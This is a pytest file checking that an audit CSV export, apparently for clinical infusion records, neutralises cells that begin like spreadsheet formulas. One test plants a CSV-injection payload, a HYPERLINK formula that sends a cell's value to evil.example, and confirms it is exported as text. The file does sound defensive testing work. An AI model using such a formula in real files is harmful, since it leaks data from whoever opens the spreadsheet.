"""CSV exports are safe to open in a spreadsheet: formula-like cells are shown as text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from audit.export import export_csv, neutralise_cell
from domain.actors import Actor, Role
from domain.events import CorrectionRecorded, NewEvent, seal
from store.sql import SqlEventStore
from tests.audit.tamper import chain_clock
from tests.store.builders import Chain, to_infusion


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_starting_like_a_formula_are_prefixed_with_a_quote(start: str) -> None:
    assert neutralise_cell(f"{start}1+2") == f"'{start}1+2"


def test_other_cells_and_numbers_are_unchanged() -> None:
    assert neutralise_cell("transcription error") == "transcription error"
    assert neutralise_cell(-3) == -3
    assert neutralise_cell(None) is None
    assert neutralise_cell("a=b") == "a=b"


def test_a_hyperlink_formula_typed_as_a_reason_is_exported_as_text(tmp_path: Path) -> None:
    store = SqlEventStore(f"sqlite:///{tmp_path / 'events.db'}")
    chain = Chain("S-001")
    for payload in to_infusion("S-001"):
        store.append(chain.next(payload))
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
    last = store.read_stream("S-001")[-1]
    store.append(
        seal(
            [
                NewEvent(
                    payload=CorrectionRecorded(
                        target_seq=6, field="volume_ml", old_value=212.5, new_value=221.5
                    ),
                    occurred_at=chain_clock(store, "S-001"),
                    reason=formula,
                )
            ],
            stream="S-001",
            last_seq=last.seq,
            last_hash=last.hash,
            actor=Actor(user_id="mallory", role=Role.COORDINATOR),
            recorded_at=chain_clock(store, "S-001"),
            protocol_version="1.0",
        )
    )
    out = io.StringIO()

    export_csv(store, out, subject="S-001")

    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[-1]["reason"] == "'" + formula
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    store.close()
